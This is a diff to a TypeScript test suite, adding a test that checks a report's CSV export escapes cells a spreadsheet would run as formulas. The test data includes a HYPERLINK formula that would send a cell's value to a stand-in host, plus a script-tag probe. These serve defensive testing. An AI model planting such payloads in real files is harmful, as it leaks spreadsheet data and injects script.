@@ -16,6 +16,24 @@ describe('a report as CSV', () => {
         'section,subject,office\r\noutliers,"D-""1"", a\nb",\r\noutliers,<script>alert(1)</script>,UZ&TAS\r\n\r\n',
     );
   });
+
+  it('writes a text a spreadsheet would run as a formula with a leading quote, and numbers as they are', () => {
+    const formulas: ReportTable = {
+      section: 'offices',
+      title: 'Offices',
+      columns: ['office', 'value'],
+      rows: [['=HYPERLINK("http://x/?"&A1;"click")', -1.5], ['+1+1', 0], ['-2', null], ['@SUM(1+1)', 1], ['\tTAB', 2], ['UZ-TAS', 3]],
+    };
+
+    expect(reportCsv([formulas]).split('\r\n').slice(1, 7)).toEqual([
+      `offices,"'=HYPERLINK(""http://x/?""&A1;""click"")",-1.5`,
+      "offices,'+1+1,0",
+      "offices,'-2,",
+      "offices,'@SUM(1+1),1",
+      "offices,'\tTAB,2",
+      'offices,UZ-TAS,3',
+    ]);
+  });
 });
 
 describe('a report as an HTML page', () => {
